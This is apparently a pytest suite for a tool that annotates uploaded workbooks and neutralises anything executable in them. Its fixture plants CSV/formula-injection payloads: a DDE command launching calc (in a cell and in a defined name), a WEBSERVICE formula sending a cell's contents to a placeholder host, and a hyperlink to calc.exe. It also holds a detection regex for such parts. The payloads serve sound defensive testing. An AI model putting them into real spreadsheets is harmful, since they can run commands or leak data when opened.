"""The annotated file: the sender's own workbook, its styles kept, problems shown, nothing in it that runs."""

from __future__ import annotations

import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.office import needs_office, saved_again
from zhengming.errors import UnreadableFile, UnwritableFile
from zhengming.pipeline import Run, inputs
from zhengming.tables.annotate import Note, Summary, annotated
from zhengming.tables.sheets_out import FILLS

TITLE = "登记 2024"
ARMED = re.compile(rb"<(?:\w+:)?f[ >]|externalLink|vbaProject|calculatedColumnFormula|HYPERLINK\(")
BATCH = Run()  # its matchers are built once
RUN = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "\t=1", "=cmd|' /c calc'!A1"]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A sender's workbook with styles to keep and with everything that may run."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = TITLE
    sheet.append(["患儿姓名", "性别", "诊断", "总费用", "备注"])
    for row, text in enumerate(RUN, start=2):
        sheet.append(["金小树", "外星" if row == 3 else "男", "PA" if row == 2 else "室缺", 100 * row, None])
        cell = sheet.cell(row, 5)
        cell.value = "x"
        cell._value = text  # text, not a formula
    sheet["A2"].font = Font(name="KaiTi", bold=True, color="FF00B050")
    sheet["A2"].fill = PatternFill("solid", fgColor="FFABCDEF")
    sheet["C2"].comment = Comment("原有的批注", "科室")
    sheet["D9"] = "=SUM(D2:D8)"
    sheet["E9"] = '=WEBSERVICE("http://example.invalid/"&A2)'
    sheet["A9"] = "合计"
    sheet["F2"].hyperlink = "file:///c:/windows/system32/calc.exe"
    sheet["F2"] = "点我"
    sheet.column_dimensions["C"].width = 33
    sheet.row_dimensions[4].hidden = True
    sheet.freeze_panes = "B2"
    checks = (DataValidation("list", formula1='"男,女"'), DataValidation("custom", formula1='WEBSERVICE("http://x")'))
    for check, cells in zip(checks, ("B2:B9", "C2:C9"), strict=True):
        sheet.add_data_validation(check)
        check.add(cells)
    red = PatternFill(bgColor="FFFF0000")
    sheet.conditional_formatting.add("D2:D8", CellIsRule("greaterThan", ["500"], fill=red))
    sheet.conditional_formatting.add("E2:E8", FormulaRule(['HYPERLINK("http://x")'], fill=red))
    book.defined_names["范围"] = DefinedName("范围", attr_text=f"'{TITLE}'!$A$2:$E$8")
    book.defined_names["evil"] = DefinedName("evil", attr_text="cmd|'/c calc'!A1")
    book.save(tmp_path / "送来.xlsx")
    return tmp_path / "送来.xlsx"


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_problem_cells_are_coloured_and_say_what_and_why(hostile: Path, tmp_path: Path) -> None:
    before = hostile.read_bytes()
    path = BATCH.clean(hostile).annotate(tmp_path / "out")
    assert path.name == "送来.annotated.xlsx"
    assert hostile.read_bytes() == before
    sheet = openpyxl.load_workbook(path)[TITLE]
    assert sheet["C2"].fill.start_color.rgb == "FF" + FILLS["review"][1:]
    text = sheet["C2"].comment.text
    assert text.startswith("原有的批注")
    for part in ("【警告】", "ZM303", "为什么：", "怎么办：", "“PA” → "):
        assert part in text
    assert "ZM" in sheet["B3"].comment.text
    assert sheet["C3"].comment is None


def test_styles_widths_and_what_is_hidden_are_kept(hostile: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(BATCH.clean(hostile).annotate(tmp_path))
    sheet = book[TITLE]
    font = sheet["A2"].font
    assert (font.name, font.bold, font.color.rgb) == ("KaiTi", True, "FF00B050")
    assert sheet["A2"].fill.start_color.rgb == "FFABCDEF"
    assert sheet.column_dimensions["C"].width == 33
    assert sheet.row_dimensions[4].hidden
    assert sheet.freeze_panes == "B2"
    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ['"男,女"']
    assert [str(one.sqref) for one in sheet.conditional_formatting] == ["D2:D8"]
    assert list(book.defined_names) == ["范围"]


def test_nothing_is_left_that_runs(hostile: Path, tmp_path: Path) -> None:
    path = BATCH.clean(hostile).annotate(tmp_path)
    for name, part in parts(path).items():
        if name.startswith("xl/worksheets/sheet1"):
            assert not re.search(rb"<f[ >]|TargetMode=\"External\"", part), name
        assert not ARMED.search(part), name
    sheet = openpyxl.load_workbook(path)[TITLE]
    for row, text in enumerate(RUN, start=2):
        cell = sheet.cell(row, 5)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert sheet["D9"].value == "=SUM(D2:D8)"  # never calculated: kept, as text
    assert (sheet["D9"].data_type, sheet["D9"].quotePrefix) == ("s", True)
    assert sheet["F2"].hyperlink is None


@pytest.mark.slow
@needs_office
def test_libreoffice_opens_it_and_calculates_nothing(hostile: Path, tmp_path: Path) -> None:
    path = saved_again(BATCH.clean(hostile).annotate(tmp_path), tmp_path / "again")
    sheet = openpyxl.load_workbook(path)[TITLE]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert [sheet.cell(row, 5).value for row in (2, 3, 4, 5)] == RUN[:4]
    assert "ZM303" in sheet["C2"].comment.text


def test_a_formula_gives_way_to_the_value_it_had(hostile: Path, tmp_path: Path) -> None:
    changed = parts(hostile)
    name = "xl/worksheets/sheet1.xml"
    changed[name] = changed[name].replace(b"<f>SUM(D2:D8)</f><v />", b"<f>SUM(D2:D8)</f><v>3500</v>")
    assert b"3500" in changed[name]
    with zipfile.ZipFile(hostile, "w") as archive:
        for part, data in changed.items():
            archive.writestr(part, data)
    assert openpyxl.load_workbook(BATCH.clean(hostile).annotate(tmp_path))[TITLE]["D9"].value == 3500


def test_the_same_file_gives_the_same_bytes(hostile: Path, tmp_path: Path) -> None:
    first = BATCH.clean(hostile).annotate(tmp_path / "one").read_bytes()
    assert BATCH.clean(hostile).annotate(tmp_path / "two").read_bytes() == first


def test_a_csv_is_drawn_from_its_cells(tmp_path: Path) -> None:
    source = tmp_path / "送来.csv"
    source.write_text("患儿姓名,诊断,身份证号\n=1+1,PA,110101201503050019\n金小树,室缺,\n", encoding="gb18030")
    path = BATCH.clean(source).annotate(tmp_path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == ("=1+1", "s", True)
    assert sheet["C2"].value == "110101201503050019"
    assert sheet["B2"].fill.start_color.rgb == "FF" + FILLS["review"][1:]
    assert "ZM303" in sheet["B2"].comment.text
    assert BATCH.clean(source).annotate(tmp_path / "again").read_bytes() == path.read_bytes()


def test_what_openpyxl_cannot_take_is_drawn_from_its_cells(hostile: Path, tmp_path: Path) -> None:
    """A styles part that openpyxl refuses and calamine does not look at."""
    changed = parts(hostile)
    changed["xl/styles.xml"] = changed["xl/styles.xml"].replace(b'fontId="0"', b'fontId="zero"')
    with zipfile.ZipFile(hostile, "w") as archive:
        for part, data in changed.items():
            archive.writestr(part, data)
    path = BATCH.clean(hostile).annotate(tmp_path)
    sheet = openpyxl.load_workbook(path)[TITLE]
    assert "ZM303" in sheet["C2"].comment.text
    assert (sheet["E2"].value, sheet["E2"].data_type) == ("=1+1", "s")


def test_cells_in_opposite_corners_cost_nothing(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["患儿姓名", "诊断"])
    sheet.append(["金小树", "PA"])
    sheet["XFD1048576"] = "角"
    book.save(tmp_path / "corner.xlsx")
    note = Note("Sheet", 2, 2, "review", "ZM303")
    made = annotated(tmp_path / "corner.xlsx", [note], Summary("说明", []))
    assert made is not None
    (tmp_path / "made.xlsx").write_bytes(made)
    assert b"ZM303" in parts(tmp_path / "made.xlsx")["xl/comments/comment1.xml"]


def test_an_annotated_file_is_no_input_and_its_notes_are_no_data(hostile: Path, tmp_path: Path) -> None:
    result = BATCH.clean(hostile)
    path = result.annotate(tmp_path)
    assert inputs([tmp_path]) == [hostile]
    again = BATCH.clean(path)
    assert again.data.height == result.data.height
    assert again.manifest["rows_in"] == again.manifest["rows_out"] + again.manifest["rows_explained"]


def test_neither_an_input_nor_a_changed_file_is_touched(hostile: Path, tmp_path: Path) -> None:
    result = replace(BATCH.clean(hostile), stem="送来")
    unlucky = hostile.with_name("送来.annotated.xlsx")
    shutil.copy(hostile, unlucky)
    BATCH.inputs.append(unlucky)
    with pytest.raises(UnwritableFile):
        result.annotate(tmp_path)
    hostile.write_bytes(hostile.read_bytes() + b"\0")
    with pytest.raises(UnreadableFile, match="no longer"):
        result.annotate(tmp_path / "out")


def test_a_note_without_a_text_only_colours(hostile: Path, tmp_path: Path) -> None:
    made = annotated(hostile, [Note(TITLE, 3, 1, "unmatched", "")], Summary("说明", [("note", ["=甲", "乙"])]))
    assert made is not None
    (tmp_path / "made.xlsx").write_bytes(made)
    book = openpyxl.load_workbook(tmp_path / "made.xlsx")
    assert book[TITLE]["A3"].fill.start_color.rgb == "FF" + FILLS["unmatched"][1:]
    assert book[TITLE]["A3"].comment is None
    assert (book["说明"]["B1"].value, book["说明"]["B1"].data_type, book["说明"]["A1"].value) == (
        "=甲",
        "s",
        "zm:notes",
    )
